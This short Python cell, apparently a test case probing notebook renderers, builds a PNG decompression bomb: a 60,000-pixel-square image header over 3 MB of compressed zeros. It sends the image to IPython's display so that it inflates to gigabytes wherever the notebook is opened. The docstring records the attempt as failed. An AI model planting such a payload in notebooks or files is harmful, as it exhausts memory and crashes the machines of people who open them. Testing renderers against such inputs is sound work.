"""Displays pictures and files that unfold to gigabytes wherever they are opened.

tries: decompression bombs
outcome: failed
"""

# %% 99-weigh
import base64
import struct
import zlib

from IPython.display import display


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


side = 60_000
head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
bomb = b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(3_000_000), 9)) + chunk(b"IEND", b"")
display({"image/png": base64.b64encode(bomb).decode()}, raw=True)


def weigh(values):
    return values
